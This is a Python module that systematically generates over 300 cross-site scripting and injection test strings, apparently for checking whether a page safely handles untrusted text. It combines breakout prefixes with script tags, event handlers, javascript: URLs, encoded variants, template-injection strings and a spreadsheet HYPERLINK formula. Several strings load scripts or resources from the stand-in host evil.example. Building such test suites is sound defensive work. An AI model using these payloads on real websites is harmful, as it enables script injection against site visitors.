"""Texts that try to run a script or to load something, made systematically: over 300 of them.

Each calls ``hit()`` or asks another host; markup carries the class ``pwn``, so that an element of
it is found in a page even where the page's policy keeps its script from running.
"""

HOST = "evil.example"
#: What a text might have to get out of first.
BREAKOUTS = (
    "", "\">", "'>", "`>", "</title>", "</script>", "</textarea>", "</style>", "-->", "]]>", "*/",
)  # fmt: skip
VECTORS = (
    "<script class=pwn>hit()</script>",
    f"<script class=pwn src=//{HOST}/x.js></script>",
    "<img class=pwn src=x onerror=hit()>",
    f"<img class=pwn src=//{HOST}/p.png>",
    "<svg class=pwn onload=hit()>",
    "<svg class=pwn><animate onbegin=hit() attributeName=x dur=1s></svg>",
    "<iframe class=pwn srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe class=pwn src=javascript:parent.hit()></iframe>",
    "<a class=pwn href=javascript:hit()>x</a>",
    "<body class=pwn onload=hit()>",
    "<video class=pwn><source onerror=hit()></video>",
    "<audio class=pwn src=x onerror=hit()>",
    "<details class=pwn open ontoggle=hit()>",
    "<input class=pwn autofocus onfocus=hit()>",
    "<select class=pwn autofocus onfocus=hit()>",
    "<marquee class=pwn onstart=hit()>",
    f"<object class=pwn data=//{HOST}/o></object>",
    f"<embed class=pwn src=//{HOST}/e>",
    f"<link class=pwn rel=stylesheet href=//{HOST}/s.css>",
    f"<style class=pwn>@import '//{HOST}/s.css';*{{color:red}}</style>",
    f"<meta class=pwn http-equiv=refresh content='0;//{HOST}/'>",
    f"<base class=pwn href=//{HOST}/>",
    f"<form class=pwn action=//{HOST}/><button>x</button></form>",
    "<math class=pwn><maction actiontype=statusline xlink:href=javascript:hit()>x</maction></math>",
    "<p class=pwn onmouseover=hit() style='position:fixed;inset:0'>x</p>",
    f"<table class=pwn background=//{HOST}/b.png>",
    "<template class=pwn><script>hit()</script></template>",
    "<div class=pwn style='animation:x 1s' onanimationstart=hit()>x</div>",
)
OTHERS = (
    "javascript:hit()", "JaVaScRiPt:hit()", " javascript:hit()", "java\tscript:hit()",
    "data:text/html,<script>hit()</script>", "vbscript:hit()", f"//{HOST}/", f"https://{HOST}/x",
    "{{constructor.constructor('hit()')()}}", "${hit()}", "#{hit()}", "<%= hit() %>",
    "$\\href{javascript:hit()}{x}$", "$\\unicode{<img src=x onerror=hit()>}$", "$x$ $$y$$",
    "&lt;img class=pwn src=x onerror=hit()&gt;", "&#60;script&#62;hit()&#60;/script&#62;",
    "&#x3c;svg class=pwn onload=hit()&#x3e;", "%3Cscript%3Ehit()%3C/script%3E",
    "\\u003cscript\\u003ehit()\\u003c/script\\u003e", "\\x3cimg src=x onerror=hit()\\x3e",
    "＜script＞hit()＜/script＞", "<scr<script>ipt>hit()</scr</script>ipt>",
    "<ScRiPt>hit()</sCrIpT>",
    "<img/class=pwn/src=x/onerror=hit()>", "<<img class=pwn src=x onerror=hit()>",
    "<img class=pwn src=x:x onerror\n=hit()>", "');hit();//", "\");hit();//", "';hit();'",
    "\\';hit()//",
    "=HYPERLINK(\"https://evil.example\",\"x\")", "@import 'https://evil.example'",
    "<b>bold</b><br><i>i</i>", "<a href=\"javascript:hit()\" target=_self>x</a>",
    "<!--<img src=x>-->",
    "__proto__", "constructor", "[object Object]", "<extra></extra>", "%{customdata}", "%{x}<br>",
)  # fmt: skip


def payloads() -> tuple[str, ...]:
    """All of them, each once."""
    made = [breakout + vector for breakout in BREAKOUTS for vector in VECTORS]
    return tuple(dict.fromkeys([*made, *OTHERS]))
